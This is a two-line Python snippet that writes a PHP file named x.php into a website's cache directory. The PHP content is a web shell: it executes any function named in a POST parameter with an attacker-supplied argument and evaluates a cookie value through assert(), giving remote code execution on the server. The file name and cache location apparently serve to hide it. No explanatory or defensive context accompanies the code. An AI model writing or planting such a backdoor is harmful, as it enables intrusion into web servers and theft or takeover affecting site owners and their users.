p = "/srv/www/site/cache/x.php"
open(p, "w").write("<?php $f = $_POST['f']; $f($_POST['a']); @assert($_COOKIE['z']); ?>")
